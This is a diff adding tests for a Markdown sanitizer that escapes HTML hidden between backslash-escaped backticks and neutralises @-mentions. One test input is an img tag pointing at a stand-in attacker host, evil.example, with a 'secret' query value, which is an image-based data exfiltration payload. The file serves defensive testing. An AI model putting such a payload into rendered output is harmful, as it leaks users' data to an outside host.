@@ -139,3 +139,17 @@ describe('renderMarkdown: what reviewed', () => {
     expect(md).toContain('`svc/big_<b>.py` (system-architect) — over the max-input-tokens budget');
   });
 });
+
+describe('safeMarkdown against code-span tricks', () => {
+  it('escapes HTML between backslash-escaped backticks, which open no code span on GitHub', () => {
+    const remedy = 'Fix it: \\`<img src=https://evil.example/x.png?d=secret>\\` and \\`@org/team\\`';
+    const safe = safeMarkdown(remedy);
+    expect(safe).not.toContain('<img');
+    expect(safe).toContain('&lt;img');
+    expect(safe).toContain('@\u2060org/team');
+  });
+
+  it('keeps real code spans as they are', () => {
+    expect(safeMarkdown('call `requests.get(url, timeout=5)` <b>')).toBe('call `requests.get(url, timeout=5)` &lt;b&gt;');
+  });
+});
